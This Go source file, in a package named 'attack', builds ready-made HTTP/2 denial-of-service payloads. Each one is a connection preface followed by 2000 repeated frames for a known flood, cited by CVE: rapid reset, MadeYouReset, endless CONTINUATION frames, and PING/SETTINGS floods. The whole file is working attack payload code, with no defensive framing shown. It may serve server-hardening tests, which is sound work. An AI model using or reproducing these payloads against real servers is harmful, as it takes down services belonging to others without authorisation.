package attack

import (
	"encoding/binary"
	"strings"
)

// repeats is how often a connection of HTTP/2 repeats its attack at once. It is above what servers
// put up with; then the peer comes again.
const repeats = 2000

// block is GET / for http by the static table of RFC 7541, and an authority.
const block = "\x82\x84\x86\x41\x01h"

// frame is one of HTTP/2 (RFC 9113 section 4.1).
func frame(kind, flags byte, stream uint32, payload string) string {
	n := len(payload)
	head := []byte{byte(n >> 16), byte(n >> 8), byte(n), kind, flags}
	return string(binary.BigEndian.AppendUint32(head, stream)) + payload
}

// flooding is a connection's preface, and what each makes of one stream after the other.
func flooding(each func(stream uint32) string) string {
	var all strings.Builder
	all.WriteString("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, ""))
	for i := range uint32(repeats) {
		all.WriteString(each(2*i + 1))
	}
	return all.String()
}

// request2 opens a stream, whose body is to follow.
func request2(stream uint32) string { return frame(1, 4, stream, block) }

// The floods: rapid reset (CVE-2023-44487), MadeYouReset (CVE-2025-8671), CONTINUATION without an
// end (CVE-2023-45288), PING and SETTINGS (CVE-2019-9512 and 9515).
var (
	rapidReset = flooding(func(stream uint32) string {
		return request2(stream) + frame(3, 0, stream,
			"\x00\x00\x00\x08")
	})
	madeReset = flooding(func(stream uint32) string {
		return request2(stream) + frame(8, 0, stream,
			"\x00\x00\x00\x00")
	})
	continued = flooding(func(stream uint32) string {
		if stream == 1 {
			return frame(1, 0, stream, block)
		}
		return frame(9, 0, 1, strings.Repeat("\x82", 100))
	})
	controls = flooding(func(uint32) string { return frame(6, 0, 0, "12345678") + frame(4, 0, 0, "") })
)
